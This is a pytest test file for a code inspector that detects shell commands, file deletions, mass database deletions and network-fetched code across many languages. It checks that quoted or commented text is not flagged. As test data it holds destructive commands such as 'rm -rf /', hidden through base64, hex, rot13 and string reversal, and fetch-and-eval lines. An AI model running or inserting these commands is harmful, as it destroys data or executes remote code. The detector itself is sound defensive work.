"""What program code is found to do: each dangerous line beside the same words as data."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from askfirst.shell.code import inspect_code
from askfirst.shell.code_lexer import LANGUAGES
from askfirst.shell.command import HOLE
from askfirst.shell.findings import Delete, Findings

NOTHING = Findings()
ENCODED = base64.b64encode(b"import os; os.system('rm -rf /')").decode()


@pytest.mark.parametrize(
    ("code", "shell"),
    [
        ("import os; os.system('rm -rf /')", "rm -rf /"),
        ("import os as o\nf = o.system\nf('rm -rf /')", "rm -rf /"),
        ("from os import *\nsystem('id')", "id"),
        ("__import__('o' + 's').system('id')", "id"),
        ("import importlib\nimportlib.import_module('os').system('id')", "id"),
        ("import os\ngetattr(os, 'sys' + 'tem')('id')", "id"),
        ("import subprocess\nsubprocess.run('rm -rf x', shell=True)", "rm -rf x"),
        ("import subprocess\np = 'x'\nsubprocess.run(f'rm -rf {p}/y', shell=True)", "rm -rf x/y"),
        ("import subprocess\nsubprocess.run('rm -rf %s' % q, shell=True)", f"rm -rf {HOLE}"),
        ("import subprocess\nsubprocess.check_output(['rm -rf x'], shell=True)", "rm -rf x"),
        (f"import base64\nexec(base64.b64decode('{ENCODED}'))", "rm -rf /"),
        ("exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2827696427293b').decode())", "id"),
        ("import os, codecs\nos.system(codecs.decode('ez -es k', 'rot13'))", "rm -rf x"),
        ("import os\nos.system('/ fr- mr'[::-1])", "rm -rf /"),
        ("print 'python 2'; import os; os.system('rm -rf /')", "rm -rf /"),
        ("def go(path):\n    import os\n    os.system('rm -rf ' + path)\ngo('src')", "rm -rf src"),
    ],
)
def test_python_shell_commands_are_found_through_disguises(code: str, shell: str) -> None:
    assert shell in inspect_code("python", code).shell


@pytest.mark.parametrize(
    ("code", "path", "recursive"),
    [
        ("from shutil import rmtree as r\nr('src')", "src", True),
        ("import shutil, os\nshutil.rmtree(os.path.join('a', 'b'))", "a/b", True),
        ("from pathlib import Path\nPath('a', 'b').unlink()", "a/b", False),
        ("from pathlib import Path\nroot = Path('a')\n(root / 'b').unlink(missing_ok=True)", "a/b", False),
        ("from pathlib import Path\nfor p in Path('build').glob('*.o'):\n    p.unlink()", "build/*.o", False),
        ("import os, sys\nos.remove(sys.argv[1])", HOLE, False),
        ("import os\nfor f in ['a', 'b']:\n    os.unlink(f)", "b", False),
        ("import os\nnames = ['a', 'b']\nfor f in names:\n    os.unlink(f)", "b", False),
    ],
)
def test_python_deletes_are_found_with_their_paths(code: str, path: str, recursive: bool) -> None:
    assert Delete(path, recursive) in inspect_code("python", code).deletes


@pytest.mark.parametrize(
    "code",
    [
        "print('os.system(\"rm -rf /\")')",
        "# import os; os.system('rm -rf /')\nx = 1",
        "assert 'rm -rf /' in text",
        "TESTS = ['shutil.rmtree(x)', 'rm -rf /']\nfor t in TESTS:\n    print(t)",
        "def clean():\n    import shutil\n    shutil.rmtree('/srv')\n",
        "import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
        "import tempfile, os\nwith tempfile.TemporaryDirectory() as d:\n    os.remove(os.path.join(d, 'x'))",
        "items = [1]\nitems.remove(1)\nd = {}\nd.clear()",
        "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('DROP TABLE t')",
        "import re\nre.compile('rm -rf').search('x')",
        '"""Run os.system(\'rm -rf /\') never."""\n',
    ],
)
def test_python_text_as_data_is_not_found(code: str) -> None:
    found = inspect_code("python", code)

    assert (found.shell, found.commands, found.sql, found.foreign) == ((), (), (), ())


@pytest.mark.parametrize(
    ("language", "code", "expected"),
    [
        ("javascript", "require('child_process').execSync('rm -rf /')", Findings(shell=("rm -rf /",))),
        (
            "javascript",
            "const cp = require('child_process'); cp.spawn('rm', ['-rf', '/'])",
            Findings(argvs=(("rm", "-rf", "/"),)),
        ),
        ("javascript", "fs.rmSync('x', {recursive: true})", Findings(deletes=(Delete("x", recursive=True),))),
        (
            "javascript",
            "const d = 'src'; fs.unlinkSync(d + '/a')",
            Findings(deletes=(Delete("src/a", recursive=False),)),
        ),
        ("javascript", "await Bun.$`rm -rf ${d}`", Findings(shell=(f"rm -rf {HOLE}",))),
        ("javascript", "Deno.removeSync('/x', {recursive: true})", Findings(deletes=(Delete("/x", recursive=True),))),
        ("javascript", "db.users.deleteMany({})", Findings(losses=("deleteMany without a filter",))),
        ("javascript", "db.user.deleteMany({where: {}})", Findings(losses=("deleteMany without a filter",))),
        ("javascript", "db.user.deleteMany({where: {id: 3}})", Findings(rows=("deleteMany",))),
        ("ruby", "User.find(3).destroy", Findings(rows=("destroy",))),
        ("ruby", "User.destroy_all", Findings(losses=("destroy_all",))),
        ("python", "User.objects.filter(id=3).delete()", Findings(rows=("objects.filter.delete()",))),
        ("python", "User.objects.all().using('x').delete()", Findings(losses=("objects.all.using.delete()",))),
        ("python", "s.query(User).filter(User.id == 3).delete()", Findings(rows=("query.filter.delete()",))),
        ("python", "s.query(User).delete()", Findings(losses=("query.delete()",))),
        ("python", "cache.delete('k')", Findings()),
        ("ruby", "system 'rm', '-rf', '/'", Findings(argvs=(("rm", "-rf", "/"),))),
        ("ruby", "`rm -rf #{x}`", Findings(shell=(f"rm -rf {HOLE}",))),
        ("ruby", "FileUtils.rm_rf 'x'", Findings(deletes=(Delete("x", recursive=True),))),
        ("perl", "open(my $f, '-|', 'rm -rf x')", Findings(shell=("rm -rf x",))),
        ("perl", 'unlink "a", "b"', Findings(deletes=(Delete("a", recursive=False), Delete("b", recursive=False)))),
        ("perl", "exec q{rm -rf /}", Findings(shell=("rm -rf /",))),
        ("php", 'array_map("unlink", glob("*"));', Findings(deletes=(Delete("*", recursive=False),))),
        ("php", "echo `rm -rf /`;", Findings(shell=("rm -rf /",))),
        ("lua", "os.execute('rm -rf /')", Findings(shell=("rm -rf /",))),
        ("go", 'exec.Command("rm", "-rf", "/").Run()', Findings(argvs=(("rm", "-rf", "/"),))),
        ("go", 'd := "/srv"; os.RemoveAll(d)', Findings(deletes=(Delete("/srv", recursive=True),))),
        ("elixir", 'System.cmd("rm", ["-rf", "/"])', Findings(argvs=(("rm", "-rf", "/"),))),
        ("elixir", 'File.rm_rf!("/srv")', Findings(deletes=(Delete("/srv", recursive=True),))),
        ("elixir", "Repo.delete_all(User)", Findings(losses=("delete_all",))),
        ("awk", '{print $1 | "sh"}', Findings(shell=(HOLE, "sh"))),
        ("awk", 'BEGIN {print "rm -rf /" | "sh"}', Findings(shell=("rm -rf /", "sh"))),
        ("awk", 'BEGIN {"date" | getline x}', Findings(shell=("date",))),
        ("osascript", 'do shell script "rm -rf /"', Findings(shell=("rm -rf /",))),
        ("julia", "run(`rm -rf /`)", Findings(argvs=(("rm", "-rf", "/"),))),
        ("javascript", "c = 'rm'; c += ' -rf x'; cp.execSync(c)", Findings(shell=("rm -rf x",))),
        ("php", '$c = "rm"; $c .= " -rf x"; system($c);', Findings(shell=("rm -rf x",))),
        ("ruby", 'c = "rm"; c << " -rf x"; system(c)', Findings(shell=("rm -rf x",))),
        ("perl", '$c = "rm"; $c .= $x; system($c);', Findings(shell=(f"rm{HOLE}",))),
        ("r", 'unlink("x", recursive=TRUE)', Findings(deletes=(Delete("x", recursive=True),))),
    ],
)
def test_other_languages_are_read_by_their_tokens(language: str, code: str, expected: Findings) -> None:
    assert inspect_code(language, code) == expected


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("javascript", "console.log('rm -rf /'); // fs.rmSync('/')"),
        ("javascript", "/a/.exec('rm -rf /')"),
        ("javascript", "fs.rmSync(path.join(os.tmpdir(), 'x'), {recursive: true})"),
        ("ruby", "puts 'system(\"rm -rf /\")' # `rm`"),
        ("perl", 'print "unlink a"; # system("rm")'),
        ("php", 'echo "system(\'rm\')"; // unlink("x")'),
        ("lua", "print('os.execute') -- os.remove('x')"),
        ("go", 'fmt.Println("os.RemoveAll(x)") // os.RemoveAll("/srv")'),
        ("elixir", 'IO.puts("File.rm_rf!(x)") # File.rm_rf!("/srv")'),
        ("awk", '/x/ {print "system(rm)"}'),
    ],
)
def test_other_languages_text_as_data_is_not_found(language: str, code: str) -> None:
    assert inspect_code(language, code) == NOTHING


def test_code_from_the_network_is_foreign() -> None:
    assert inspect_code("python", "import requests\nexec(requests.get(url).text)").foreign
    assert inspect_code("javascript", "fetch(u).then(r => r.text()).then(eval)").foreign
    assert inspect_code("javascript", "require('https').get(u, r => r.on('data', c => eval(c)))").foreign
    assert inspect_code("ruby", "eval URI.open('https://example.com/a').read").foreign
    assert inspect_code("php", "eval(file_get_contents('https://example.com/a'));").foreign
    assert not inspect_code("php", "eval(file_get_contents($path));").foreign
    assert not inspect_code("php", "$r = curl_exec($c); assert($r !== false);").foreign
    assert not inspect_code("python", "import requests\nprint(requests.get(url).text)").foreign


def test_an_upload_to_a_model_hub_is_the_command_that_it_comes_to() -> None:
    assert inspect_code("python", "model.push_to_hub('acme/m')").argvs == (("hf", "upload", "acme/m"),)
    assert inspect_code("python", "import huggingface_hub as h\nh.upload_folder(folder_path='x')").argvs
    assert not inspect_code("python", "s3.upload_file('a', 'b', 'c')").argvs
    assert inspect_code("python", "from huggingface_hub import delete_repo\ndelete_repo('acme/m')").losses


def test_variables_that_double_each_other_do_not_take_for_ever() -> None:
    lines = ["a0 = 'x'", *(f"a{i} = a{i - 1} + a{i - 1}" for i in range(1, 60)), "import os", "os.system(a59)"]

    assert len(inspect_code("python", "\n".join(lines)).shell) == 1


@given(st.sampled_from(sorted(LANGUAGES)), st.text(max_size=200))
@settings(max_examples=300)
def test_any_text_is_read_without_an_exception(language: str, text: str) -> None:
    inspect_code(language, text)
    inspect_code(language, f"system({text}")


@given(st.text(max_size=80).filter(lambda text: HOLE not in text))
@settings(max_examples=150)
def test_what_python_prints_is_data(text: str) -> None:
    found = inspect_code("python", f"print({('rm -rf / ; ' + text)!r})")

    assert found == NOTHING


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("python", "x=y;x=z;y=x;z=y;y=z\n" * 20 + "eval(x+y+z);" * 1500),
        ("ruby", "system(" * 9000),
        ("javascript", "a;" * 20_000),
        ("python", "a" * 300_000),
    ],
)
def test_code_that_is_too_long_or_tangled_is_not_called_read(language: str, code: str) -> None:
    assert inspect_code(language, code).unread
